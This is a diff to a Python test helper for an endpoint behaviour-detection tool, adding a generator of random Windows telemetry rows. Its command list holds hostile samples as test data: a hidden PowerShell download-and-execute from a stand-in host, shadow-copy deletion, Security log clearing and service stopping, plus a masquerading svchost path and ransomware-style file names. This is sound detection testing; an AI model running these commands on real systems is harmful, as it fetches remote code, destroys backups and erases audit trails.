@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import random
+from typing import Any
+
 from tests.detect.behaviour.account_rows import at, ref
 from tocsin.detect.behaviour.facts import Autorun, Beat, Process, Tamper, Touched
 
@@ -47,3 +50,47 @@ def touched(
 def beat(minutes: float, host: str = "srv-1", source: str = "windows.sysmon") -> Beat:
     """Make what was heard of a machine in five minutes."""
     return Beat(at(minutes), host, source, 10, ref(minutes, source))
+
+
+IMAGES = (
+    f"{OFFICE}WINWORD.EXE",
+    POWERSHELL,
+    f"{SYSTEM32}svchost.exe",
+    "C:\\Users\\Public\\svchost.exe",
+    f"{SYSTEM32}cmd.exe",
+)
+LINES = (
+    "powershell -nop -w hidden IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')",
+    "cmd /c dir",
+    "vssadmin delete shadows /all /quiet",
+    "wevtutil cl Security",
+    "net stop sqlserver",
+    "svchost.exe -k netsvcs",
+)
+
+
+def any_row(rng: random.Random, minutes: float) -> Any:
+    """Make a row of any kind, of few machines."""
+    host = f"pc-{rng.randrange(4)}"
+    return rng.choice(
+        (
+            lambda: start(
+                minutes,
+                rng.choice(IMAGES),
+                rng.choice(LINES),
+                rng.choice(IMAGES),
+                host,
+                digest=f"{rng.randrange(9):064x}",
+            ),
+            lambda: autorun(
+                minutes,
+                rng.choice(("service", "task", "wmi", "runkey")),
+                f"n{rng.randrange(9)}",
+                rng.choice(LINES),
+                host,
+            ),
+            lambda: tamper(minutes, rng.choice(("cleared", "stopped", "disabled", "off", "catalog")), "Security", host),
+            lambda: touched(minutes, f"D:\\d{rng.randrange(9)}\\a{rng.randrange(999)}.docx.k7", host=host),
+            lambda: beat(minutes // 5 * 5, host, rng.choice(("windows.sysmon", "windows.security"))),
+        )
+    )()
